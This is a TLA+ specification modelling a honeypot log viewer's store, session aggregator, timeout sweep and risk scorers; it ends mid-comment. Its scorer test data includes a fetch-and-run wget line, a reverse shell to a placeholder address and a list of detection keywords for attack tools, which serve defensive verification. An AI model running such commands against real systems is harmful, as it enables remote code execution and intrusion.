---- MODULE Spec2Model ----
(***************************************************************************)
(* A model of the xKippo-tui session pipeline: the bounded in-memory       *)
(* Store (src/data/store.rs), the SessionManager's aggregator and timeout  *)
(* sweep (src/core/session_manager.rs), the risk scorer                    *)
(* (src/core/log_analyzer.rs) and the watcher's publication of log         *)
(* entries on the broadcast channel (src/core/log_watcher.rs, src/app.rs). *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

(***************************************************************************)
(* Bounds of the model.                                                    *)
(***************************************************************************)
\* Store ceilings (max_logs, max_sessions) range over 0..MaxCap.
MaxCap == 2
\* Number of Store calls explored by SpecStore.
MaxStoreOps == 5
\* Number of log entries the watcher publishes in Spec.
MaxEvents == 3
\* Number of clock advances in Spec.
MaxTicks == 2
\* Number of commands of a session scored in SpecScore.
MaxScoreCmds == 4
\* Number of transferred files of a session scored in SpecScore.
MaxScoreFiles == 1
\* Number of lines written to the watched file in SpecTail.
MaxLines == 3

(***************************************************************************)
(* Program constants.                                                      *)
(***************************************************************************)
\* session_manager.rs:36  let session_timeout = 30 * 60;
session_timeout == 30 * 60

\* Option<T>: None is the empty sequence, Some(x) the one-element sequence.
None == <<>>

Some(x) == <<x>>

IsSome(v) == v # <<>>

\* unwrap_or
OrElse(v, d) == IF v = <<>> THEN d ELSE v[1]

(***************************************************************************)
(* Small helpers for HashMap and Vec.                                      *)
(***************************************************************************)
MapInsert(m, k, v) == [x \in (DOMAIN m) \cup {k} |-> IF x = k THEN v ELSE m[x]]

MapRemove(m, k) == [x \in (DOMAIN m) \ {k} |-> m[x]]

EmptyMap == [x \in {} |-> 0]

\* HashMap::get
MapGet(m, k) == IF k \in DOMAIN m THEN Some(m[k]) ELSE None

Min(a, b) == IF a < b THEN a ELSE b

Range(s) == {s[i] : i \in 1..Len(s)}

NoDup(s) == \A i, j \in 1..Len(s) : i # j => s[i] # s[j]

(***************************************************************************)
(* Data model (src/data/models.rs).                                        *)
(***************************************************************************)
SessionIdSeq == <<"s1", "s2", "s3", "s4", "s5", "s6">>

\* A LogEntry as the parser produces it.  fields is the open field map.
LogEntry(id, ts, et, sid, user, cmd, flds) ==
    [id |-> id, timestamp |-> ts, event_type |-> et, session |-> sid,
     src_ip |-> None, src_port |-> None, dst_ip |-> None, dst_port |-> None,
     username |-> user, password |-> None,
     command |-> cmd, file |-> None, fields |-> flds]

\* serde_json values of the open field map, tagged with their JSON type.
JStr(x) == [t |-> "string", v |-> x]

JBool(b) == [t |-> "bool", v |-> b]

\* fields.get(key).and_then(|v| v.as_str()): None for a missing key and for
\* a value of another type.
FieldStr(entry, key) ==
    IF key \in DOMAIN entry.fields /\ entry.fields[key].t = "string"
    THEN Some(entry.fields[key].v) ELSE None

\* fields.get(key).and_then(|v| v.as_bool()).unwrap_or(default)
FieldBool(entry, key, default) ==
    IF key \in DOMAIN entry.fields /\ entry.fields[key].t = "bool"
    THEN entry.fields[key].v ELSE default

\* `n as u64` of a signed 64-bit n: a negative n wraps to 2^64 + n, kept
\* symbolically as wrap = 1.
as_u64(n) == [wrap |-> IF n < 0 THEN 1 ELSE 0, val |-> n]

\* as_u64(n) > t for a t below 2^63.
u64_gt(u, t) == u.wrap = 1 \/ u.val > t

(***************************************************************************)
(* Store (src/data/store.rs).  A store value is a record of the struct's   *)
(* fields; every operation is a function from store to store.              *)
(***************************************************************************)
StoreNew(maxLogs, maxSessions) ==
    [log_entries |-> EmptyMap, sessions |-> EmptyMap,
     max_logs |-> maxLogs, max_sessions |-> maxSessions,
     log_entry_ids |-> <<>>, session_ids |-> <<>>,
     unique_ips |-> {}, unique_usernames |-> {}, unique_passwords |-> {}]

\* A plausible slip: the loop guard compares with >= ... + 1, leaving one extra.
RECURSIVE prune_log_entries_offbyone(_)
prune_log_entries_offbyone(st) ==
    IF Cardinality(DOMAIN st.log_entries) > st.max_logs + 1
       /\ Len(st.log_entry_ids) > 0
    THEN prune_log_entries_offbyone(
            [st EXCEPT !.log_entries = MapRemove(@, Head(st.log_entry_ids)),
                       !.log_entry_ids = Tail(@)])
    ELSE st

RECURSIVE prune_log_entries(_)
prune_log_entries(st) ==
    IF Cardinality(DOMAIN st.log_entries) > st.max_logs
       /\ Len(st.log_entry_ids) > 0
    THEN prune_log_entries(
            [st EXCEPT !.log_entries = MapRemove(@, Head(st.log_entry_ids)),
                       !.log_entry_ids = Tail(@)])
    ELSE st

\* A plausible slip: eviction takes the newest id (pop) instead of the oldest.
RECURSIVE prune_sessions_newest(_)
prune_sessions_newest(st) ==
    IF Cardinality(DOMAIN st.sessions) > st.max_sessions
       /\ Len(st.session_ids) > 0
    THEN prune_sessions_newest(
            [st EXCEPT !.sessions = MapRemove(@, st.session_ids[Len(st.session_ids)]),
                       !.session_ids = SubSeq(@, 1, Len(@) - 1)])
    ELSE st

RECURSIVE prune_sessions(_)
prune_sessions(st) ==
    IF Cardinality(DOMAIN st.sessions) > st.max_sessions
       /\ Len(st.session_ids) > 0
    THEN prune_sessions(
            [st EXCEPT !.sessions = MapRemove(@, Head(st.session_ids)),
                       !.session_ids = Tail(@)])
    ELSE st

\* A plausible slip: the uniqueness sets are recomputed from the entries that
\* are resident after pruning.
add_log_entry_recount(st, entry) ==
    LET added == prune_log_entries(
                    [st EXCEPT !.log_entry_ids = Append(@, entry.id),
                               !.log_entries = MapInsert(@, entry.id, entry)])
        valuesOf(field) == UNION {Range(added.log_entries[k][field]) : k \in DOMAIN added.log_entries}
    IN  [added EXCEPT !.unique_ips = valuesOf("src_ip"),
                      !.unique_usernames = valuesOf("username"),
                      !.unique_passwords = valuesOf("password")]

add_log_entry(st, entry) ==
    prune_log_entries(
        [st EXCEPT
            !.unique_ips = @ \cup Range(entry.src_ip),
            !.unique_usernames = @ \cup Range(entry.username),
            !.unique_passwords = @ \cup Range(entry.password),
            !.log_entry_ids = Append(@, entry.id),
            !.log_entries = MapInsert(@, entry.id, entry)])

get_log_entry(st, id) == MapGet(st.log_entries, id)

add_session(st, session) ==
    prune_sessions(
        [st EXCEPT !.session_ids = Append(@, session.id),
                   !.sessions = MapInsert(@, session.id, session)])

\* Err(..) when the id is not resident: the store is returned unchanged.
update_session_ok(st, session) == session.id \in DOMAIN st.sessions

\* A plausible slip: the update also moves the id to the back of the
\* chronological index (eviction by last touch).
update_session_touch(st, session) ==
    IF ~update_session_ok(st, session) THEN st
    ELSE LET other(id) == id # session.id
         IN  [st EXCEPT !.sessions = MapInsert(@, session.id, session),
                        !.session_ids = Append(SelectSeq(@, other), session.id)]

\* A plausible slip: an id that is not resident is inserted (an upsert).
update_session_upsert(st, session) ==
    IF ~update_session_ok(st, session) THEN add_session(st, session)
    ELSE [st EXCEPT !.sessions = MapInsert(@, session.id, session)]

update_session(st, session) ==
    IF ~update_session_ok(st, session) THEN st
    ELSE [st EXCEPT !.sessions = MapInsert(@, session.id, session)]

get_session(st, id) == MapGet(st.sessions, id)

get_sessions(st) ==
    LET resident(id) == id \in DOMAIN st.sessions
        ids == SelectSeq(st.session_ids, resident)
    IN  [i \in 1..Len(ids) |-> st.sessions[ids[i]]]

get_active_sessions(st) ==
    LET open(s) == s.end_time = None
    IN  SelectSeq(get_sessions(st), open)

clear(st) ==
    [st EXCEPT !.log_entries = EmptyMap, !.sessions = EmptyMap,
               !.log_entry_ids = <<>>, !.session_ids = <<>>,
               !.unique_ips = {}, !.unique_usernames = {}, !.unique_passwords = {}]

(***************************************************************************)
(* Risk scorer (src/core/log_analyzer.rs, analyze_session_risk).           *)
(***************************************************************************)
\* The command texts of the model and, for each, the needles of the scorer
\* that its lower-cased text contains (str::contains after to_lowercase).
CommandTexts ==
    {"ls", "WGET http://x/y.sh | sh", "wget http://x/y.sh | sh", "chmod 777 /tmp/x",
     "busybox tftp; chmod 777 /tmp/m; bash >& /dev/tcp/1.2.3.4/4444"}

Needles(cmd) ==
    CASE cmd = "ls" -> {}
      [] cmd = "WGET http://x/y.sh | sh" -> {"wget"}
      [] cmd = "wget http://x/y.sh | sh" -> {"wget"}
      [] cmd = "chmod 777 /tmp/x" -> {"chmod", "777", "/tmp"}
      [] cmd = "busybox tftp; chmod 777 /tmp/m; bash >& /dev/tcp/1.2.3.4/4444" ->
            {"busybox", "tftp", "chmod", "777", "/tmp", "bash", "dev/tcp"}
      [] OTHER -> {}

CommandScore(cmd) ==
    LET n == Needles(cmd.command)
    IN  (IF n \cap {"wget", "curl", "tftp"} # {} THEN 10 ELSE 0)
      + (IF n \cap {"/tmp", "/var/tmp", "/dev/shm"} # {} THEN 5 ELSE 0)
      + (IF {"chmod", "777"} \subseteq n THEN 15 ELSE 0)
      + (IF n \cap {"busybox", "xmrig", "mirai", "ddos"} # {} THEN 25 ELSE 0)

RECURSIVE CommandsScore(_)
CommandsScore(cmds) ==
    IF cmds = <<>> THEN 0 ELSE CommandScore(Head(cmds)) + CommandsScore(Tail(cmds))

\* The sum before the cap, in unbounded integers.
RiskSum(session) ==
      (IF IsSome(session.user) /\ session.user[1].login_success THEN 10 ELSE 0)
    + (IF session.commands # <<>> THEN 20 + CommandsScore(session.commands) ELSE 0)
    + (IF session.files # <<>> THEN 30 ELSE 0)

\* score is a u8: the additions are taken modulo 2^8 (a release build).
analyze_session_risk(session) == Min(RiskSum(session) % 256, 100)

\* `let mut score = 0` is a u8 and every `score += k` adds a non-negative k,
\* so the running sum passes 255 exactly when the whole sum does.  With
\* overflow checks (a debug build) the addition that passes 255 panics and
\* the call does not return: None.  Without them (a release build) the sum
\* wraps modulo 2^8 and the wrapped value goes through `score.min(100)`.
u8_score(overflow_checks, sum) ==
    IF sum > 255 /\ overflow_checks THEN None ELSE Some(Min(sum % 256, 100))

\* LogAnalyzer::analyze_session_risk under either build.
analyze_session_risk_run(overflow_checks, session) ==
    u8_score(overflow_checks, RiskSum(session))

(***************************************************************************)
(* Enhanced risk scorer (src/core/enhanced_log_analyzer.rs).               *)
(***************************************************************************)
\* is_command_malicious: some pattern of malicious_cmd_patterns (lines 90-100)
\* matches the command as typed; the patterns are case-sensitive.
\*   wget\s+.+\s+\|\s*sh           matches "wget http://x/y.sh | sh"
\*   busybox\s+tftp, /dev/tcp/\d+\.\d+\.\d+\.\d+/\d+   match the last text
\*   chmod\s+[+]x                  does not match "chmod 777 /tmp/x"
is_command_malicious_none(cmd) == FALSE

is_command_malicious(cmd) ==
    cmd \in {"wget http://x/y.sh | sh",
             "busybox tftp; chmod 777 /tmp/m; bash >& /dev/tcp/1.2.3.4/4444"}

\* add_example_threat_intel (lines 136-154): score and labels by address.
ExampleThreatIntel ==
    [ip \in {"185.156.73.54", "112.85.42.2", "45.227.255.206", "193.142.146.78"} |->
        CASE ip = "185.156.73.54" -> [score |-> 85, labels |-> {"scanner", "bruteforce", "malware"}]
          [] ip = "112.85.42.2" -> [score |-> 90, labels |-> {"botnet", "c2", "scanner"}]
          [] ip = "45.227.255.206" -> [score |-> 75, labels |-> {"ransomware", "malware"}]
          [] ip = "193.142.146.78" -> [score |-> 60, labels |-> {"scanner", "bruteforce"}]]

\* get_threat_intel
get_threat_intel(threat_intel, ip) == MapGet(threat_intel, ip)

\* Lines 362-370.
ThreatIntelScore(threat_intel, session) ==
    LET threat_data == get_threat_intel(threat_intel, session.src_ip)
    IN  IF IsSome(threat_data)
        THEN threat_data[1].score \div 5
             + (IF threat_data[1].labels \cap {"malware", "c2", "botnet"} # {} THEN 10 ELSE 0)
        ELSE 0

\* Lines 385-417: the contributions of one command.
EnhancedCommandScore(cmd) ==
    LET n == Needles(cmd.command)
    IN  (IF is_command_malicious(cmd.command) THEN 20 ELSE 0)
      + (IF n \cap {"wget", "curl", "tftp"} # {} THEN 10 ELSE 0)
      + (IF n \cap {"/tmp", "/var/tmp", "/dev/shm"} # {} THEN 5 ELSE 0)
      + (IF "chmod" \in n /\ n \cap {"+x", "777"} # {} THEN 15 ELSE 0)
      + (IF n \cap {"busybox", "xmrig", "mirai", "ddos"} # {} THEN 25 ELSE 0)
      + (IF {"bash", "dev/tcp"} \subseteq n \/ {"nc", "-e"} \subseteq n THEN 30 ELSE 0)

RECURSIVE EnhancedCommandsScore(_)
EnhancedCommandsScore(cmds) ==
    IF cmds = <<>> THEN 0
    ELSE EnhancedCommandScore(Head(cmds)) + EnhancedCommandsScore(Tail(cmds))

\* Lines 426-434: the contributions of one transferred file.
FileScore(file) ==
    (IF file.is_executable THEN 10 ELSE 0) + (IF file.is_malware THEN 30 ELSE 0)

RECURSIVE FilesScore(_)
FilesScore(files) ==
    IF files = <<>> THEN 0 ELSE FileScore(Head(files)) + FilesScore(Tail(files))

\* The sum before the cap, in unbounded integers (lines 354-435).
EnhancedRiskSum(threat_intel, session) ==
      (IF IsSome(session.user) /\ session.user[1].login_success THEN 10 ELSE 0)
    + ThreatIntelScore(threat_intel, session)
    + (IF session.commands # <<>>
       THEN 5 + (IF Len(session.commands) > 20 THEN 10
                 ELSE IF Len(session.commands) > 10 THEN 5 ELSE 0)
              + EnhancedCommandsScore(session.commands)
       ELSE 0)
    + (IF session.files # <<>> THEN 10 + FilesScore(session.files) ELSE 0)

\* EnhancedLogAnalyzer::analyze_session_risk under either build.
enhanced_analyze_session_risk(overflow_checks, threat_intel, session) ==
    u8_score(overflow_checks, EnhancedRiskSum(threat_intel, session))

(***************************************************************************)
(* SessionManager (src/core/session_manager.rs): the pure parts.           *)
(***************************************************************************)
ProtocolOf(dst_port) ==
    IF dst_port = 22 \/ dst_port = 2222 THEN "SSH"
    ELSE IF dst_port = 23 \/ dst_port = 2223 THEN "Telnet"
    ELSE "Unknown"

create_session_from_log_entry(session_id, entry) ==
    [id |-> session_id,
     start_time |-> entry.timestamp,
     end_time |-> None,
     src_ip |-> OrElse(entry.src_ip, "0.0.0.0"),
     src_port |-> OrElse(entry.src_port, 0),
     dst_ip |-> OrElse(entry.dst_ip, "0.0.0.0"),
     dst_port |-> OrElse(entry.dst_port, 0),
     protocol |-> ProtocolOf(OrElse(entry.dst_port, 0)),
     client_version |-> None,
     user |-> None,
     duration |-> None,
     commands |-> <<>>,
     files |-> <<>>,
     tty_log |-> None,
     shasum |-> None,
     is_malicious |-> FALSE,
     malicious_score |-> 0]

LoginKinds == {"LoginAttempt", "LoginSuccess", "LoginFailed"}

\* The condition under which a login or key event (re)writes session.user.
UserReplaced(session, success) ==
    session.user = None \/ (success /\ ~session.user[1].login_success)

\* A plausible slip: a failed login is taken for the end of the connection.
UpdateByKind_closing(session, entry) ==
    IF entry.event_type = "LoginFailed"
    THEN [session EXCEPT !.end_time = Some(entry.timestamp),
                         !.duration = Some(as_u64(entry.timestamp - session.start_time))]
    ELSE session

\* The match on entry.event_type (lines 159-266).
UpdateByKind(session, entry) ==
    CASE entry.event_type = "Connect" ->
            [session EXCEPT
                !.src_ip = OrElse(entry.src_ip, @),
                !.src_port = OrElse(entry.src_port, @),
                !.dst_ip = OrElse(entry.dst_ip, @),
                !.dst_port = OrElse(entry.dst_port, @),
                !.client_version = IF IsSome(FieldStr(entry, "version"))
                                   THEN FieldStr(entry, "version") ELSE @]
      [] entry.event_type = "Disconnect" ->
            [session EXCEPT
                !.end_time = Some(entry.timestamp),
                !.duration = Some(as_u64(entry.timestamp - session.start_time))]
      [] entry.event_type \in LoginKinds ->
            LET success == entry.event_type = "LoginSuccess"
            IN  IF UserReplaced(session, success)
                THEN [session EXCEPT !.user = Some(
                        [username |-> OrElse(entry.username, ""),
                         password |-> entry.password,
                         key_fingerprint |-> None,
                         login_success |-> success,
                         login_time |-> entry.timestamp])]
                ELSE session
      [] entry.event_type = "KeyAuth" ->
            LET success == FieldBool(entry, "success", FALSE)
            IN  IF UserReplaced(session, success)
                THEN [session EXCEPT !.user = Some(
                        [username |-> OrElse(entry.username, ""),
                         password |-> None,
                         key_fingerprint |-> FieldStr(entry, "fingerprint"),
                         login_success |-> success,
                         login_time |-> entry.timestamp])]
                ELSE session
      [] entry.event_type = "Command" ->
            IF IsSome(entry.command)
            THEN [session EXCEPT !.commands = Append(@,
                        [command |-> entry.command[1],
                         timestamp |-> entry.timestamp,
                         success |-> FieldBool(entry, "success", TRUE),
                         output |-> FieldStr(entry, "output")])]
            ELSE session
      [] entry.event_type \in {"FileUpload", "FileDownload"} ->
            IF IsSome(entry.file)
            THEN [session EXCEPT !.files = Append(@, entry.file[1])]
            ELSE session
      [] OTHER -> session

update_session_from_log_entry(session, entry) ==
    [UpdateByKind(session, entry) EXCEPT
        !.tty_log = IF IsSome(FieldStr(entry, "ttylog"))
                    THEN FieldStr(entry, "ttylog") ELSE @,
        !.shasum = IF IsSome(FieldStr(entry, "shasum"))
                   THEN FieldStr(entry, "shasum") ELSE @]


(***************************************************************************)
(* State.                                                                  *)
(***************************************************************************)
VARIABLES
    store,          \* the Store behind Arc<RwLock<Store>>
    \* -- history of the Store calls (SpecStore) --
    calls,          \* number of Store calls made
    ins_sessions,   \* ids passed to add_session since the last clear, in order
    ins_logs,       \* ids passed to add_log_entry since the last clear, in order
    upd_sessions,   \* ids passed to a successful update_session since the last clear
    \* -- the pipeline (Spec) --
    now,            \* the wall clock (Utc::now), in seconds
    ticks,          \* number of clock advances so far
    n_entries,      \* number of log entries the watcher has parsed so far
    subscribed,     \* the aggregator's listener task holds a broadcast receiver
    rx,             \* that receiver's queue of NewLogEntry messages
    agg_pc,         \* the listener: "recv", "write" (read done), "send" (write done)
    agg_entry,      \* the entry process_log_entry is handling
    agg_read,       \* the Option<Session> it cloned under the read lock
    agg_session,    \* the session it wrote and is about to publish
    sweep_pc,       \* the timeout task: "tick", "write" (read done)
    sessions_to_update, \* the closed copies check_session_timeouts collected
    \* -- history of the pipeline --
    hist,           \* the entries the aggregator has written back, in order
    published,      \* ids of the entries with a connection id the watcher sent
    swept,          \* resident ids whose session a completed sweep closed
    appended,       \* resident ids to whose session a Command was appended
    evicted,        \* ids of sessions removed by prune_sessions so far
    \* -- the scorers (SpecScore) --
    sc_pc,          \* "build" while the session is put together, then "done"
    sc_session,     \* the Session handed to the scorers
    overflow_checks,\* the build panics on integer overflow (debug) or wraps
    threat_intel,   \* the EnhancedLogAnalyzer's threat_intel map
    sc_basic,       \* outcome of LogAnalyzer::analyze_session_risk
    sc_enhanced,    \* outcome of EnhancedLogAnalyzer::analyze_session_risk
    \* -- two aggregators side by side (SpecDet) --
    det_feed,       \* the entries fed to both aggregators, in order
    det_store2,     \* the second aggregator's Store (the first one's is store)
    det_pos1,       \* number of entries the first aggregator has processed
    det_pos2,       \* number of entries the second aggregator has processed
    \* -- one watched file and its watcher (SpecTail) --
    file,           \* the bytes of the log file
    n_lines,        \* number of lines written to the file so far
    truncated,      \* the file was truncated at some point
    w_start,        \* start_log_watcher: "new", "watching" (watcher alive), "returned"
    fs_events,      \* Modify events queued in the mpsc channel
    w_pc,           \* the task: "unstarted", "open", "backlog", "init", "recv", "done"
    bl_pos,         \* bytes the backlog reader has consumed
    file_position,  \* process_file_events' file_position
    \* -- history of the watcher --
    bl_len,         \* size of the file when the backlog reader opened it
    fwd,            \* what the lines stored and published so far named, in order
    tail_run,       \* the last run of process_file_changes, if any
    late,           \* lines appended after start returned and the backlog ended
    handoff,        \* lines appended while the replay ran or before the offset was taken
    \* -- shutdown (SpecQuit) --
    q_app,          \* App: "init", "connected", "stopped" (stop() done), "quit_sent"
    q_listener,     \* listener task: "unstarted", "spawned", "recv", "done"
    q_sweep,        \* timeout task: "unstarted", "sleep" (in tick()), "check", "done"
    \* -- the store's RwLock (SpecLock) --
    lk_pc,          \* each task's position around its lock requests
    lk_readers,     \* the tasks holding a read guard
    lk_writer,      \* the task holding the write guard, if any
    lk_queue,       \* the waiters of the lock's semaphore, in arrival order
    \* -- history of the Store calls with their results (SpecApi) --
    api_last,       \* the last Store call: its operation and its Result
    api_seen,       \* the values add_log_entry was given since the last clear
    \* -- App::connect over several log paths (SpecConn) --
    log_paths,      \* App::log_paths: for each path, what start_log_watcher will meet
    conn_pc,        \* connect: "idle", "loop", "manager", "returned_ok", "returned_err", "exited"
    conn_i,         \* index of the path the loop of connect is at
    connection_status, \* App::connection_status
    conn_tasks,     \* for each path its watcher task: "none", "backlog", "tail", "done", "cancelled"
    conn_manager,   \* SessionManager::start was called
    \* -- LogAnalyzer::parse_log_entry on one line (SpecParse) --
    p_line,         \* the line the watcher read last, as serde_json sees it
    p_result,       \* what parse_log_entry returned for it
    p_published,    \* the NewLogEntry messages sent, oldest first
    p_n,            \* number of lines processed
    \* -- check_session_timeouts on sessions of any age (SpecSweep) --
    sw_now,         \* Utc::now() of the run
    sw_pc,          \* the sweep: "tick", "write"
    sw_updates,     \* sessions_to_update of the run
    sw_before,      \* the store when the run began
    sw_sent,        \* the SessionUpdate messages sent, oldest first
    sw_runs,        \* number of finished runs
    \* -- process_log_entry on events of any timestamp and port (SpecUpd) --
    u_entry,        \* the entry process_log_entry was given last
    u_before,       \* the session of that entry's connection before the call
    u_first_close,  \* end_time and duration as the first close of s1 set them
    u_n,            \* number of entries processed
    \* -- the two writers, their lock sections and their sends (SpecNotify) --
    n_pc,           \* position of the listener task ("agg") and of the sweep task ("sweep")
    n_writer,       \* the task holding the write guard of the store's RwLock, if any
    n_entry,        \* the entry the listener is processing
    n_session,      \* the session the listener computed and will write and send
    n_updates,      \* what is left of the sweep's sessions_to_update
    n_sent,         \* the SessionUpdate messages sent, oldest first, each with its sender
                    \* and whether the sender held the write guard at the send
    n_count,        \* number of entries the listener received
    \* -- AlertEngine (SpecAlert) --
    alert_config,   \* AlertEngine::config
    known_ips,      \* AlertEngine::known_ips
    alerts,         \* AlertEngine::alerts
    al_seen,        \* the addresses the source IPs of the processed entries parsed to
    al_n,           \* number of events processed
    \* -- the listener's broadcast receiver (SpecChan) --
    ch_buf,         \* the messages the channel still retains, oldest first
    ch_tail,        \* number of messages sent on the channel so far
    ch_n,           \* number of NewLogEntry messages the watcher sent
    l_next,         \* number of messages the listener's receiver is past
    l_exit,         \* why the listener's loop ended, if it has
    l_done          \* ids of the entries the listener processed, in order

storeHist == <<calls, ins_sessions, ins_logs, upd_sessions>>

clock == <<now, ticks>>

aggVars == <<agg_pc, agg_entry, agg_read, agg_session>>

sweepVars == <<sweep_pc, sessions_to_update>>

pipeHist == <<hist, published, swept, appended, evicted>>

pipeVars == <<clock, n_entries, subscribed, rx, aggVars, sweepVars, pipeHist>>

scoreVars == <<sc_pc, sc_session, overflow_checks, threat_intel, sc_basic, sc_enhanced>>

\* The variables of the other specifications, which the Store and the
\* pipeline leave alone.
detVars == <<det_feed, det_store2, det_pos1, det_pos2>>

tailVars == <<file, n_lines, truncated, w_start, fs_events, w_pc, bl_pos, file_position,
              bl_len, fwd, tail_run, late, handoff>>

quitVars == <<q_app, q_listener, q_sweep>>

lockVars == <<lk_pc, lk_readers, lk_writer, lk_queue>>

apiVars == <<api_last, api_seen>>

connVars == <<log_paths, conn_pc, conn_i, connection_status, conn_tasks, conn_manager>>

parseVars == <<p_line, p_result, p_published, p_n>>

sweepRunVars == <<sw_now, sw_pc, sw_updates, sw_before, sw_sent, sw_runs>>

updVars == <<u_entry, u_before, u_first_close, u_n>>

notifyVars == <<n_pc, n_writer, n_entry, n_session, n_updates, n_sent, n_count>>

alertVars == <<alert_config, known_ips, alerts, al_seen, al_n>>

chanVars == <<ch_buf, ch_tail, ch_n, l_next, l_exit, l_done>>

ext3Vars == <<updVars, notifyVars, alertVars, chanVars>>

ext2Vars == <<lockVars, apiVars, connVars, parseVars, sweepRunVars, ext3Vars>>

extVars == <<scoreVars, detVars, tailVars, quitVars, ext2Vars>>

vars == <<store, storeHist, pipeVars, extVars>>

\* The variables a specification does not use keep these values.
StoreHistIdle ==
    /\ calls = 0
    /\ ins_sessions = <<>>
    /\ ins_logs = <<>>
    /\ upd_sessions = {}

PipeIdle ==
    /\ now = 0
    /\ ticks = 0
    /\ n_entries = 0
    /\ subscribed = FALSE
    /\ rx = <<>>
    /\ agg_pc = "recv"
    /\ agg_entry = None
    /\ agg_read = None
    /\ agg_session = None
    /\ sweep_pc = "tick"
    /\ sessions_to_update = <<>>
    /\ hist = <<>>
    /\ published = {}
    /\ swept = {}
    /\ appended = {}
    /\ evicted = {}

ScoreIdle ==
    /\ sc_pc = "idle"
    /\ sc_session = None
    /\ overflow_checks = FALSE
    /\ threat_intel = EmptyMap
    /\ sc_basic = None
    /\ sc_enhanced = None

DetIdle ==
    /\ det_feed = <<>>
    /\ det_store2 = None
    /\ det_pos1 = 0
    /\ det_pos2 = 0

TailIdle ==
    /\ file = <<>>
    /\ n_lines = 0
    /\ truncated = FALSE
    /\ w_start = "new"
    /\ fs_events = 0
    /\ w_pc = "unstarted"
    /\ bl_pos = 0
    /\ file_position = 0
    /\ bl_len = 0
    /\ fwd = <<>>
    /\ tail_run = None
    /\ late = {}
    /\ handoff = {}

QuitIdle ==
    /\ q_app = "init"
    /\ q_listener = "unstarted"
    /\ q_sweep = "unstarted"

LockIdle ==
    /\ lk_pc = <<>>
    /\ lk_readers = {}
    /\ lk_writer = None
    /\ lk_queue = <<>>

ApiIdle ==
    /\ api_last = None
    /\ api_seen = None

ConnIdle ==
    /\ log_paths = <<>>
    /\ conn_pc = "idle"
    /\ conn_i = 0
    /\ connection_status = "Disconnected"
    /\ conn_tasks = <<>>
    /\ conn_manager = FALSE

ParseIdle ==
    /\ p_line = [t |-> "none"]
    /\ p_result = [ok |-> FALSE, err |-> "none"]
    /\ p_published = <<>>
    /\ p_n = 0

UpdIdle ==
    /\ u_entry = None
    /\ u_before = None
    /\ u_first_close = None
    /\ u_n = 0

NotifyIdle ==
    /\ n_pc = [agg |-> "recv", sweep |-> "tick"]
    /\ n_writer = None
    /\ n_entry = None
    /\ n_session = None
    /\ n_updates = <<>>
    /\ n_sent = <<>>
    /\ n_count = 0

AlertIdle ==
    /\ alert_config = None
    /\ known_ips = {}
    /\ alerts = <<>>
    /\ al_seen = {}
    /\ al_n = 0

ChanIdle ==
    /\ ch_buf = <<>>
    /\ ch_tail = 0
    /\ ch_n = 0
    /\ l_next = 0
    /\ l_exit = None
    /\ l_done = <<>>

Ext3Idle ==
    /\ UpdIdle
    /\ NotifyIdle
    /\ AlertIdle
    /\ ChanIdle

SweepRunIdle ==
    /\ sw_now = 0
    /\ sw_pc = "tick"
    /\ sw_updates = <<>>
    /\ sw_before = None
    /\ sw_sent = <<>>
    /\ sw_runs = 0

Ext2Idle ==
    /\ LockIdle
    /\ ApiIdle
    /\ ConnIdle
    /\ ParseIdle
    /\ SweepRunIdle
    /\ Ext3Idle

ExtIdle ==
    /\ ScoreIdle
    /\ DetIdle
    /\ TailIdle
    /\ QuitIdle
    /\ Ext2Idle

\* What process_log_entry computes between its read and its write
\* (lines 129-139): an update of the session read, or a fresh session.
ProcessedSession_wallclock(read, entry) ==
    IF IsSome(read)
    THEN update_session_from_log_entry(read[1], entry)
    ELSE [create_session_from_log_entry(entry.session[1], entry) EXCEPT !.start_time = now]

ProcessedSession(read, entry) ==
    IF IsSome(read)
    THEN update_session_from_log_entry(read[1], entry)
    ELSE create_session_from_log_entry(entry.session[1], entry)

(***************************************************************************)
(* SpecStore: any sequence of calls of the Store's mutating operations on  *)
(* a store constructed with any ceilings.                                  *)
(***************************************************************************)
\* The ids of the sessions offered to the store: MaxCap + 1 distinct ones.
StoreIds == {SessionIdSeq[n] : n \in 1..(MaxCap + 1)}

\* An open session and the same session closed by a Disconnect.
OpenSession(id) ==
    create_session_from_log_entry(id,
        LogEntry("e", 0, "Connect", Some(id), None, None, EmptyMap))

ClosedSession(id) ==
    update_session_from_log_entry(OpenSession(id),
        LogEntry("e", 1, "Disconnect", Some(id), None, None, EmptyMap))

\* Log entry ids are fresh UUIDs (log_analyzer.rs:62): the n-th entry is n.
StoreInit ==
    /\ \E ml \in 0..MaxCap, ms \in 0..MaxCap : store = StoreNew(ml, ms)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ExtIdle

StoreAddLogEntry ==
    /\ calls < MaxStoreOps
    /\ \E sid \in {None, Some("s1")} :
          store' = add_log_entry(store,
                      LogEntry(calls, 0, "Connect", sid, None, None, EmptyMap))
    /\ ins_logs' = Append(ins_logs, calls)
    /\ calls' = calls + 1
    /\ UNCHANGED <<ins_sessions, upd_sessions, pipeVars>>
    /\ UNCHANGED extVars

StoreAddSession ==
    /\ calls < MaxStoreOps
    /\ \E id \in StoreIds :
          /\ store' = add_session(store, OpenSession(id))
          /\ ins_sessions' = Append(ins_sessions, id)
    /\ calls' = calls + 1
    /\ UNCHANGED <<ins_logs, upd_sessions, pipeVars>>
    /\ UNCHANGED extVars

StoreUpdateSession ==
    /\ calls < MaxStoreOps
    /\ \E id \in StoreIds :
          /\ store' = update_session(store, ClosedSession(id))
          /\ upd_sessions' = IF update_session_ok(store, ClosedSession(id))
                              THEN upd_sessions \cup {id} ELSE upd_sessions
    /\ calls' = calls + 1
    /\ UNCHANGED <<ins_sessions, ins_logs, pipeVars>>
    /\ UNCHANGED extVars

StoreClear ==
    /\ calls < MaxStoreOps
    /\ store' = clear(store)
    /\ calls' = calls + 1
    /\ ins_sessions' = <<>>
    /\ ins_logs' = <<>>
    /\ upd_sessions' = {}
    /\ UNCHANGED pipeVars
    /\ UNCHANGED extVars

StoreNext ==
    \/ StoreAddLogEntry
    \/ StoreAddSession
    \/ StoreUpdateSession
    \/ StoreClear

SpecStore == StoreInit /\ [][StoreNext]_vars

(***************************************************************************)
(* Spec: the pipeline.  A watcher task parses lines, stores each entry and *)
(* publishes it (log_watcher.rs:104-130, 197-215); App::connect starts the *)
(* SessionManager after the watchers (app.rs:175-196); the manager's       *)
(* listener task runs process_log_entry on every NewLogEntry it receives   *)
(* and its interval task runs check_session_timeouts.  Every block that    *)
(* holds the store's lock is one step; the tasks interleave between them.  *)
